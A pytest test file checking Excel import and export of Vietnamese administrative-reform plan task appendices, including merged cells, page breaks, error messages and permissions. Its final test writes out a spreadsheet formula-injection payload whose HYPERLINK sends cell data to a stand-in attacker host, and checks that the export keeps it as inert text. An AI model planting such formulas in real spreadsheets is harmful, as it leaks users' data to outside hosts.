"""A reform officer exports a plan's task appendix to Excel and imports appendices the
way provinces keep them: seed 001 (Bến Tre 2022, pasted from Word over five pages) and
seed 003 (Văn Giang 2021, PAPI tasks), and files with mistakes in them."""

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from cchc.core.errors import DomainError, PermissionDenied
from cchc.core.models import AuditEvent
from cchc.documents.spreadsheets import workbook_bytes
from cchc.orgs.models import UnitKind
from cchc.orgs.tests.factories import make_unit
from cchc.plans import services
from cchc.plans.excel import TASK_HEADER, plan_tasks_workbook
from cchc.plans.models import PlanKind, PlanStatus, Task, TimeframeKind
from cchc.plans.services_import import tasks_import

pytestmark = pytest.mark.django_db

HEADER = TASK_HEADER
TITLE_ROWS = [
    ["Phụ lục"],
    ["CÁC NHIỆM VỤ CẢI CÁCH HÀNH CHÍNH TRỌNG TÂM TRIỂN KHAI TRONG NĂM 2022"],
    ["(Kèm theo Kế hoạch số /KH-SGD&ĐT ngày tháng năm 2022 của Sở Giáo dục và Đào tạo)"],
    [],
]
ALL = "Các phòng, Thanh tra Sở"
VP = "Văn phòng Sở"
JAN = "Tháng 01/2022"
UNITS = "Các Phòng, Thanh tra Sở, các đơn vị trực thuộc"
# Seed 001's appendix row by row as the Word table pasted into Excel gives it: the
# header again on each of its five pages, cells broken by the page breaks, a group
# numbered "VI" before "V", and two groups written "VI. …" in the first cell.
SEED_001 = [
    HEADER,
    ["I", "Công tác chỉ đạo, điều hành về CCHC", "", "", "", "", ""],
    ["1", "Xây dựng và triển khai Kế hoạch CCHC năm 2022", "Kế hoạch", JAN, VP, ALL, ""],
    ["2", "Xây dựng Kế hoạch tuyên truyền CCHC năm 2022.", "Kế hoạch", JAN, VP, ALL, ""],
    ["3", "Tự đánh giá, chấm điểm để xác định Chỉ số CCHC năm 2021 của Sở GD&ĐT", "Báo cáo chấm điểm",
     "Theo quy định của Bộ Nội vụ", "Văn phòng Sở", "Các phòng có liên quan", ""],
    ["4", "Khảo sát, đánh giá mức độ hài lòng của người dân, tổ chức đối với sự phục vụ của Sở GD&ĐT",
     "Báo cáo kết quả khảo sát", "Thường xuyên", "Văn phòng Sở", "Trung tâm phục vụ hành chính công", ""],
    ["II", "Cải cách thể chế", "", "", "", "", ""],
    ["1", "Tham mưu xây dựng văn bản QPPL theo đúng trình tự, thủ tục, thẩm quyền phù hợp với quy định "
     "của pháp luật và tình hình thực tế của địa phương",
     "Danh mục VBQPPL được ban hành trong năm 2022; NQ của HĐND, QĐ", "Năm 2022", "Văn phòng Sở", ALL, ""],
    [],
    HEADER,
    ["", "", "của UBND", "", "", "", ""],
    ["2", "Xây dựng kế hoạch theo dõi thi hành pháp luật trong lĩnh vực giáo dục và đào tạo",
     "Kế hoạch, Báo cáo", "Năm 2022", "Văn phòng Sở", ALL, ""],
    ["3", "100% các vấn đề phát hiện qua công tác kiểm tra, theo dõi thi hành pháp luật đều được xử lý, "
     "hoặc kiến nghị xử lý theo quy định.", "Quyết định, Báo cáo", "Quý IV/2022", "Văn phòng Sở",
     "Các phòng, Thanh tra Sở, các đơn vị được kiểm tra", ""],
    ["III", "Cải cách TTTC", "", "", "", "", ""],
    ["1", "Xây dựng các kế hoạch liên quan đến hoạt động kiểm soát TTTC năm 2022", "Kế hoạch",
     "Tháng 01/2022", "Văn phòng Sở", "Các phòng có liên quan", ""],
    ["2", "Rà soát, đánh giá các quy định, thủ tục hành chính", "Báo cáo kết quả rà soát", "Quý II, III/2022",
     "Văn phòng Sở", "Các phòng có liên quan", ""],
    ["3", "Tiếp nhận, xử lý phản ánh, kiến nghị của cá nhân, tổ chức về quy định hành chính thuộc thẩm "
     "quyền của Sở GD&ĐT", "Báo cáo kết quả xử lý phản ánh, kiến nghị", "Thường xuyên trong năm",
     "Văn phòng Sở", "Các phòng có liên quan", ""],
    ["VI", "Cải cách tổ chức bộ máy", "", "", "", "", ""],
    ["1", "Xây dựng kế hoạch biên chế hàng năm và trình Sở Nội vụ", "Kế hoạch", "Hàng năm", "Phòng TCCB",
     "Các đơn vị trực thuộc", ""],
    ["2", "Ban hành quyết định phân bổ biên chế", "Quyết định", "Sau khi có", "Phòng TCCB",
     "Các Phòng, Thanh", ""],
    [],
    HEADER,
    ["", "năm 2022", "", "Quyết định UBND tỉnh", "", "tra Sở, các đơn vị trực thuộc", ""],
    ["3", "Sắp xếp lại tổ chức bộ máy của cơ quan các đơn vị sự nghiệp trực thuộc Sở.", "Kết quả sắp xếp",
     "Sau khi có Quyết định UBND tỉnh", "Phòng TCCB", UNITS, ""],
    ["V", "Cải cách chế độ công vụ", "", "", "", "", ""],
    ["1", "Xây dựng Kế hoạch thực hiện định kỳ chuyển đổi vị trí công tác đối với công chức, viên chức "
     "theo Nghị định số 59/2019/NĐ-CP ngày 01/7/2019 của Chính phủ.", "Kế hoạch", "Năm 2022",
     "Phòng TCCB", UNITS, ""],
    ["2", "Phê duyệt tuyển dụng các đơn vị trực thuộc Sở, Phòng GD&ĐT các huyện, thành phố",
     "Kết quả thi tuyển", "Năm 2022", "Phòng TCCB", "Các cơ quan, đơn vị có liên quan", ""],
    ["3", "Triển khai thực hiện có hiệu quả các quy định của Trung ương về tinh giản biên chế và cơ cấu "
     "lại đội ngũ CBCCVC", "Các văn bản có liên quan", "Năm 2022", "Phòng TCCB", "Các cơ quan, đơn vị", ""],
    ["4", "Xây dựng và triển khai Kế hoạch đào tạo, bồi dưỡng Công chức, viên chức năm 2023", "Kế hoạch",
     "Quý IV/2022", "Phòng TCCB", "Các cơ quan, đơn vị có liên quan", ""],
    ["5", "Kiểm tra về chấp hành giờ giấc làm việc, văn hóa giao tiếp nơi công sở,",
     "Báo cáo kết quả kiểm tra", "Thường xuyên trong năm", "Phòng TCCB",
     "Các cơ quan, đơn vị có liên quan", ""],
    [],
    HEADER,
    ["", "việc tuyển dụng, sử dụng, quản lý viên chức.", "", "2022", "", "", ""],
    ["VI. Cải cách tài chính công", "", "", "", "", "", ""],
    ["1", "Báo cáo định kỳ hàng năm về tình hình thực hiện chế độ tự chủ, tự chịu trách nhiệm về sử dụng "
     "biên chế và kinh phí quản lý hành chính đối với cơ quan nhà nước và cơ chế tự chủ của đơn vị sự "
     "nghiệp công lập", "Báo cáo", "Trong năm 2022", "Phòng Kế hoạch tài chính", "", ""],
    ["2", "Thực hiện tốt quy định về quy chế chi tiêu nội bộ, công khai tài chính và phòng chống tham "
     "nhũng, lãng phí", "Quyết định", "Trong năm 2022", "Phòng Kế hoạch tài chính", "", ""],
    ["VII. Xây dựng chính quyền điện tử, chính quyền số", "", "", "", "", "", ""],
    ["1", "Triển khai Kế hoạch tăng cường ứng dụng công nghệ thông tin, thực hiện chuyển đổi số trong "
     "quản lý và trong dạy học góp phần nâng cao chất lượng giáo dục và đào tạo giai đoạn 2021-2025",
     "Báo cáo", "Thường xuyên", "Phòng Khảo thí, QLCLGD&CNTT", "Các phòng có liên quan", ""],
    ["2", "Triển khai ứng dụng phần mềm quản lý văn bản và điều hành VNPT-iOffice và nâng cao tỷ lệ liên "
     "thông văn bản điện tử.", "", "Năm 2022", "Văn phòng Sở", ALL, ""],
    [],
    HEADER,
    ["3", "Duy trì tỷ lệ 100% CBCC sử dụng thư điện tử công vụ trong trao đổi công việc", "", "Năm 2022",
     "Văn phòng Sở", ALL, ""],
]
# Groups of seed 001 in order: (title as written, area key, number of tasks).
SEED_001_GROUPS = [
    ("I. Công tác chỉ đạo, điều hành về CCHC", "direction", 4),
    ("II. Cải cách thể chế", "institutions", 3),
    ("III. Cải cách TTTC", "procedures", 3),
    ("VI. Cải cách tổ chức bộ máy", "apparatus", 3),
    ("V. Cải cách chế độ công vụ", "civil_service", 5),
    ("VI. Cải cách tài chính công", "public_finance", 2),
    ("VII. Xây dựng chính quyền điện tử, chính quyền số", "digital_government", 3),
]
SEED_001_TASKS = sum(count for _title, _key, count in SEED_001_GROUPS)  # 23

# Seed 003's columns (TT, Nhiệm vụ cụ thể, Sản phẩm, …, Thời gian thực hiện last), groups
# numbered "1.", tasks "1.1", a task without number and a cell broken by a page.
HEADER_003 = ["TT", "Nhiệm vụ cụ thể", "Sản phẩm", "Cơ quan chủ trì", "Cơ quan phối hợp",
              "Thời gian thực hiện"]
GUIDE = "Văn bản chỉ đạo, hướng dẫn, đôn đốc, kiểm tra"
PGD = "Phòng Giáo dục và Đào tạo"
SEED_003 = [
    HEADER_003,
    ["1.", "Tham gia của người dân ở cấp cơ sở", "", "", "", ""],
    ["1.1", "Đẩy mạnh công tác thông tin, tuyên truyền cho đội ngũ cán bộ, công chức và nhân dân hiểu và "
     "thực hiện tốt tuyên truyền dân chủ ở cơ sở và tạo điều kiện cho nhân dân tham gia thực hiện theo "
     "quy định.", GUIDE, PGD, "Các nhà trường", "Thường xuyên"],
    ["3.", "Trách nhiệm giải trình với người dân", "", "", "", ""],
    ["3.1.", "Các cơ quan, đơn vị cần thực hiện tốt việc giải trình với người dân. Tập trung giải quyết "
     "dứt điểm những vướng mắc của nhân dân và thực hiện tốt công tác giải quyết", GUIDE, PGD,
     "Các nhà trường", "Thường xuyên"],
    [],
    ["", "khiếu nại, tố cáo của nhân dân.", "", "", "", ""],
    ["4.", "Kiểm soát tham nhũng trong khu vực công", "", "", "", ""],
    ["4.5", "Tuyển dụng, đào tạo, bồi dưỡng nghiệp vụ; nâng cao chất lượng đội ngũ giáo viên tiểu học.",
     "Văn bản chỉ đạo, hướng dẫn, đôn", PGD, "Các nhà trường", "Thường xuyên"],
    ["", "", "đốc, kiểm tra", "", "", ""],
    ["7.", "Quản trị môi trường", "", "", "", ""],
    ["", "Tăng cường công tác tuyên truyền, thực hiện bảo vệ môi trường, Luật bảo vệ môi trường năm 2020.",
     GUIDE, PGD, "Các nhà trường", "Thường xuyên"],
    ["8.", "Quản trị điện tử", "", "", "", ""],
    ["8.5", "Tăng cường việc cấp và sử dụng thư điện tử công vụ cho cán bộ, công chức và giáo viên các "
     "đơn vị trực thuộc.", "Văn bản chỉ đạo, quy chế.", PGD, "Các nhà trường", "Ngày 22/5 hàng năm"],
]


def xlsx(rows, *, title_rows=(), merges=(), sheet_title="Phụ lục") -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = sheet_title
    for row in [*title_rows, *rows]:
        ws.append([value if value != "" else None for value in row])
    for merge in merges:
        ws.merge_cells(merge)
    return workbook_bytes(wb)


def seed_001_file() -> bytes:
    # The group title of "I" merged across the row, as Word tables paste it.
    first_group = len(TITLE_ROWS) + 2
    return xlsx(SEED_001, title_rows=TITLE_ROWS, merges=[f"B{first_group}:G{first_group}"])


@pytest.fixture
def units(province):
    t = province
    t.tccb = make_unit("Phòng Tổ chức cán bộ", UnitKind.DIVISION, t.department)
    t.khtc = make_unit("Phòng Kế hoạch – Tài chính", UnitKind.DIVISION, t.department)
    t.khaothi = make_unit("Phòng Khảo thí, Quản lý chất lượng giáo dục và Công nghệ thông tin",
                          UnitKind.DIVISION, t.department)
    t.thanhtra = make_unit("Thanh tra Sở", UnitKind.DIVISION, t.department)
    return t


def new_plan(t, *, issuer=None, actor=None, year=2022):
    return services.plan_create(
        actor=actor or t.dept_officer, issuer=issuer or t.department, kind=PlanKind.ANNUAL,
        symbol="KH-SGDĐT", place="Hưng Yên",
        title=f"Công tác cải cách hành chính năm {year} của Sở Giáo dục và Đào tạo",
        period_start=dt.date(year, 1, 1), period_end=dt.date(year, 12, 31),
    )


@pytest.fixture
def plan(units):
    return new_plan(units)


def tasks_of(plan):
    return list(plan.tasks.select_related("lead_unit", "area").order_by("order"))


# --- seed 001 ---------------------------------------------------------------------------


def test_seed_001_appendix_imports_its_23_tasks_in_their_groups(units, plan):
    t = units
    result = tasks_import(actor=t.dept_officer, plan=plan, file=seed_001_file())

    assert result.problems == []
    assert result.created == SEED_001_TASKS == 23
    tasks = tasks_of(plan)
    assert len(tasks) == 23
    groups = []
    for task in tasks:
        if not groups or groups[-1][0] != task.group:
            groups.append((task.group, task.area.key, 0))
        groups[-1] = (groups[-1][0], groups[-1][1], groups[-1][2] + 1)
    assert groups == SEED_001_GROUPS


def test_seed_001_tasks_have_their_dates_units_and_continued_cells(units, plan):
    t = units
    tasks_import(actor=t.dept_officer, plan=plan, file=seed_001_file())
    tasks = tasks_of(plan)
    first = tasks[0]
    assert (first.number, first.lead_unit, first.timeframe_kind, first.due_date) == (
        "1", t.division, TimeframeKind.ONCE, dt.date(2022, 1, 31))
    assert set(first.coordinating_units.all()) == {t.division, t.tccb, t.khtc, t.khaothi, t.thanhtra}

    survey = tasks[3]
    assert survey.timeframe_kind == TimeframeKind.ONGOING
    assert survey.coordinating_text == "Trung tâm phục vụ hành chính công"  # outside body, kept
    assert not survey.coordinating_units.exists()

    # II.1: its "Kết quả" continues on the next page, under the repeated header.
    regulations = tasks[4]
    assert regulations.deliverable == "Danh mục VBQPPL được ban hành trong năm 2022; NQ của HĐND, QĐ của UBND"
    assert regulations.due_date == dt.date(2022, 12, 31)
    assert tasks[6].due_date == dt.date(2022, 12, 31)  # Quý IV/2022
    review = tasks[8]
    assert review.timeframe_kind == TimeframeKind.RECURRING
    assert review.due_dates == ["2022-06-30", "2022-09-30"]

    # "VI" before "V": the mis-numbered group keeps its tasks and area.
    staffing, allocation, restructuring = tasks[10:13]
    assert staffing.lead_unit == t.tccb and staffing.timeframe_kind == TimeframeKind.RECURRING
    assert allocation.content == "Ban hành quyết định phân bổ biên chế năm 2022"
    assert allocation.timeframe_text == "Sau khi có Quyết định UBND tỉnh"
    assert allocation.timeframe_kind == TimeframeKind.CONDITIONAL and allocation.due_date is None
    assert allocation.coordinating_text == UNITS
    assert t.thanhtra in allocation.coordinating_units.all()
    assert restructuring.group == "VI. Cải cách tổ chức bộ máy"

    inspection = tasks[17]
    assert inspection.content == ("Kiểm tra về chấp hành giờ giấc làm việc, văn hóa giao tiếp nơi công sở, "
                                  "việc tuyển dụng, sử dụng, quản lý viên chức.")
    assert inspection.timeframe_text == "Thường xuyên trong năm 2022"
    assert inspection.timeframe_kind == TimeframeKind.ONGOING

    finance = tasks[18]
    assert finance.lead_unit == t.khtc and finance.due_date == dt.date(2022, 12, 31)
    assert tasks[20].lead_unit == t.khaothi
    assert tasks[22].content.startswith("Duy trì tỷ lệ 100% CBCC")
    assert [task.order for task in tasks] == list(range(1, 24))


def test_each_imported_task_is_audited(units, plan):
    tasks_import(actor=units.dept_officer, plan=plan, file=seed_001_file())
    events = AuditEvent.objects.filter(event="task.created", actor=units.dept_officer)
    assert events.count() == 23


# --- seed 003 ---------------------------------------------------------------------------


def test_seed_003_columns_groups_numbered_1_and_an_unnumbered_task(province):
    t = province
    plan = new_plan(t, issuer=t.office_a, actor=t.office_a_officer, year=2021)
    result = tasks_import(actor=t.office_a_officer, plan=plan, file=xlsx(SEED_003))

    assert result.problems == [] and result.created == 5
    tasks = tasks_of(plan)
    assert [(task.number, task.group, task.area.key) for task in tasks] == [
        ("1.1", "1. Tham gia của người dân ở cấp cơ sở", "papi_participation"),
        ("3.1.", "3. Trách nhiệm giải trình với người dân", "papi_accountability"),
        ("4.5", "4. Kiểm soát tham nhũng trong khu vực công", "papi_corruption"),
        ("", "7. Quản trị môi trường", "papi_environment"),
        ("8.5", "8. Quản trị điện tử", "papi_e_governance"),
    ]
    assert all(task.lead_unit == t.office_a for task in tasks)  # "Phòng Giáo dục và Đào tạo": itself
    assert tasks[1].content.endswith("công tác giải quyết khiếu nại, tố cáo của nhân dân.")
    assert tasks[2].deliverable == GUIDE
    assert set(tasks[0].coordinating_units.all()) == {t.school_a1, t.school_a2}
    assert tasks[4].timeframe_kind == TimeframeKind.RECURRING
    assert tasks[4].due_date == dt.date(2021, 5, 22)


# --- mistakes in the file: every problem with its row and column, nothing created ------

GOOD_ROW = ["1", "Xây dựng Kế hoạch CCHC năm 2022", "Kế hoạch", "Tháng 01/2022", "Văn phòng Sở", ALL, ""]


def messages(result):
    return [problem.message for problem in result.problems]


def test_a_missing_column_is_named_and_nothing_is_created(units, plan):
    rows = [[cell for index, cell in enumerate(row) if index != 4] for row in [HEADER, GOOD_ROW]]
    result = tasks_import(actor=units.dept_officer, plan=plan, file=xlsx(rows))
    assert messages(result) == ["Thiếu cột “Cơ quan chủ trì”."]
    assert result.created == 0 and not plan.tasks.exists()


def test_an_unknown_unit_and_an_unreadable_date_are_reported_with_row_and_column(units, plan):
    rows = [
        HEADER,
        ["I", "Công tác chỉ đạo, điều hành", "", "", "", "", ""],
        GOOD_ROW,
        ["2", "Kiểm tra công tác CCHC", "Báo cáo", "31/02/2022", "Văn phòng Sở", "", ""],
        ["3", "Tuyên truyền CCHC", "Tin bài", "Tháng 13/2022", "Phòng XYZ", "Sở Nội vụ", ""],
    ]
    result = tasks_import(actor=units.dept_officer, plan=plan,
                         file=xlsx(rows, title_rows=[["PHỤ LỤC"], []]))
    # The title and a blank row put the header on row 3: the tasks are rows 5 to 7.
    assert messages(result) == [
        "Dòng 6, cột D: không hiểu thời gian “31/02/2022”.",
        "Dòng 7, cột D: không hiểu thời gian “Tháng 13/2022”.",
        "Dòng 7, cột E: không tìm thấy đơn vị “Phòng XYZ”.",
    ]
    assert [(p.row, p.column) for p in result.problems] == [(6, "D"), (7, "D"), (7, "E")]
    assert (result.created, result.valid, result.total) == (0, 1, 3)
    assert not plan.tasks.exists()


def test_with_the_users_consent_only_the_valid_rows_are_created(units, plan):
    rows = [
        HEADER,
        GOOD_ROW,
        ["2", "Kiểm tra công tác CCHC", "Báo cáo", "31/02/2022", "Văn phòng Sở", "", ""],
        ["3", "Rà soát thủ tục hành chính", "Báo cáo", "Quý II/2022", "Phòng TCCB", "Sở Nội vụ", ""],
    ]
    result = tasks_import(actor=units.dept_officer, plan=plan, file=xlsx(rows), only_valid=True)
    assert result.created == 2 and len(result.problems) == 1
    assert [task.content for task in tasks_of(plan)] == [
        "Xây dựng Kế hoạch CCHC năm 2022", "Rà soát thủ tục hành chính"]
    third = tasks_of(plan)[1]
    assert third.lead_unit == units.tccb and third.coordinating_text == "Sở Nội vụ"


def test_a_failure_while_creating_leaves_no_half_import(units, plan, monkeypatch):
    calls = []
    original = services.task_add

    def failing(**kwargs):
        calls.append(kwargs)
        if len(calls) == 3:
            raise DomainError("hỏng")
        return original(**kwargs)

    monkeypatch.setattr(services, "task_add", failing)
    with pytest.raises(DomainError):
        tasks_import(actor=units.dept_officer, plan=plan, file=seed_001_file())
    assert not Task.objects.filter(plan=plan).exists()


def test_empty_rows_are_skipped(units, plan):
    second = GOOD_ROW[:1] + ["Nhiệm vụ thứ hai"] + GOOD_ROW[2:]
    rows = [HEADER, [], GOOD_ROW, ["", "", "", "", "", "", ""], [], second]
    result = tasks_import(actor=units.dept_officer, plan=plan, file=xlsx(rows))
    assert result.problems == [] and result.created == 2


def test_content_merged_over_two_tasks_is_a_problem(units, plan):
    rows = [HEADER, GOOD_ROW, ["2", None, "Báo cáo", "Quý II/2022", "Văn phòng Sở", "", ""]]
    result = tasks_import(actor=units.dept_officer, plan=plan, file=xlsx(rows, merges=["B2:B3"]))
    assert ("Dòng 2–3, cột B: ô gộp nhiều dòng; hãy bỏ gộp ô và ghi “Nội dung” cho từng dòng."
            in messages(result))
    assert all(p.row in (2, 3) and p.column == "B" for p in result.problems)
    assert result.created == 0 and not plan.tasks.exists()


def test_a_deadline_merged_over_a_block_of_tasks_is_shared(units, plan):
    rows = [HEADER, GOOD_ROW, ["2", "Nhiệm vụ thứ hai", "Báo cáo", None, "Văn phòng Sở", "", ""]]
    result = tasks_import(actor=units.dept_officer, plan=plan, file=xlsx(rows, merges=["D2:D3"]))
    assert result.problems == []
    assert [task.due_date for task in tasks_of(plan)] == [dt.date(2022, 1, 31)] * 2


def test_a_file_that_is_not_an_xlsx_is_refused_with_a_clear_message(units, plan):
    with pytest.raises(DomainError) as error:
        tasks_import(actor=units.dept_officer, plan=plan, file=b"STT;Noi dung\n1;abc\n")
    assert "không phải dạng .xlsx" in error.value.message
    assert not plan.tasks.exists()


def test_a_sheet_without_the_table_says_which_columns_it_needs(units, plan):
    result = tasks_import(actor=units.dept_officer, plan=plan, file=xlsx([["Danh sách"], ["abc"]]))
    assert result.created == 0
    assert messages(result)[0].startswith("Không tìm thấy dòng tiêu đề của bảng.")


def test_only_managers_of_the_issuer_import_into_draft_or_issued_plans(units, plan):
    t = units
    with pytest.raises(PermissionDenied):
        tasks_import(actor=t.school_a1_head, plan=plan, file=seed_001_file())
    with pytest.raises(PermissionDenied):
        tasks_import(actor=t.office_a_officer, plan=plan, file=seed_001_file())
    tasks_import(actor=t.dept_officer, plan=plan, file=xlsx([HEADER, GOOD_ROW]))
    services.plan_set_status(actor=t.dept_officer, plan=plan, status=PlanStatus.ISSUED)
    assert tasks_import(actor=t.dept_officer, plan=plan, file=xlsx([HEADER, GOOD_ROW])).created == 1
    services.plan_set_status(actor=t.dept_officer, plan=plan, status=PlanStatus.CLOSED)
    with pytest.raises(DomainError, match="không nhập thêm nhiệm vụ"):
        tasks_import(actor=t.dept_officer, plan=plan, file=xlsx([HEADER, GOOD_ROW]))


# --- export ------------------------------------------------------------------------------


def exported_sheet(plan):
    workbook = load_workbook(io.BytesIO(workbook_bytes(plan_tasks_workbook(plan))))
    return workbook.active


def test_export_has_the_title_the_header_and_bold_merged_group_rows(units, plan):
    tasks_import(actor=units.dept_officer, plan=plan, file=seed_001_file())
    sheet = exported_sheet(plan)
    title = sheet["A1"].value
    assert title.startswith("PHỤ LỤC\nCÁC NHIỆM VỤ CÔNG TÁC CẢI CÁCH HÀNH CHÍNH NĂM 2022")
    assert ("(Kèm theo Kế hoạch số …/KH-SGDĐT ngày … tháng … năm 2022 "
            "của Sở Giáo dục và Đào tạo Hưng Yên)") in title
    assert [cell.value for cell in sheet[3]] == HEADER
    groups = [(row[0].value, row[1].value) for row in sheet.iter_rows(min_row=4)
              if row[2].value is None and row[4].value is None]
    assert groups == [("I", "Công tác chỉ đạo, điều hành về CCHC"), ("II", "Cải cách thể chế"),
                      ("III", "Cải cách TTTC"), ("IV", "Cải cách tổ chức bộ máy"),
                      ("V", "Cải cách chế độ công vụ"), ("VI", "Cải cách tài chính công"),
                      ("VII", "Xây dựng chính quyền điện tử, chính quyền số")]
    assert sheet["A4"].font.b and sheet["B4"].font.b
    assert "B4:G4" in {str(r) for r in sheet.merged_cells.ranges}
    assert [cell.value for cell in sheet[5]] == [
        "1", "Xây dựng và triển khai Kế hoạch CCHC năm 2022", "Kế hoạch", "Tháng 01/2022", "Văn phòng Sở",
        ALL, None]


def test_export_then_import_gives_the_same_tasks(units, plan):
    t = units
    tasks_import(actor=t.dept_officer, plan=plan, file=seed_001_file())
    copy = new_plan(t)
    result = tasks_import(actor=t.dept_officer, plan=copy,
                          file=workbook_bytes(plan_tasks_workbook(plan)))
    assert result.problems == [] and result.created == 23

    def shape(p):
        return [(task.number, task.group.split(". ", 1)[1], task.area_id, task.content, task.deliverable,
                 task.timeframe_text, task.timeframe_kind, task.due_date, task.due_dates, task.lead_unit_id,
                 task.lead_text, task.coordinating_text, sorted(u.pk for u in task.coordinating_units.all()))
                for task in tasks_of(p)]

    assert shape(copy) == shape(plan)
    # The export numbers groups in order, so the seed's second "VI" comes back as "IV".
    assert tasks_of(copy)[10].group == "IV. Cải cách tổ chức bộ máy"


def test_formula_text_in_a_task_is_exported_as_text(units, plan):
    t = units
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    services.task_add(actor=t.dept_officer, plan=plan, content=payload, lead_text="Văn phòng Sở",
                      deliverable="+1+1", note="@SUM(1,2)")
    sheet = exported_sheet(plan)
    cell = sheet["B4"]
    assert cell.value == payload and cell.data_type == "s"
    assert sheet["C4"].value == "+1+1" and sheet["C4"].data_type == "s"
    assert sheet["G4"].value == "@SUM(1,2)" and sheet["G4"].data_type == "s"
    # Re-imported, it is the same text.
    copy = new_plan(t)
    tasks_import(actor=t.dept_officer, plan=copy, file=workbook_bytes(plan_tasks_workbook(plan)))
    assert copy.tasks.get().content == payload
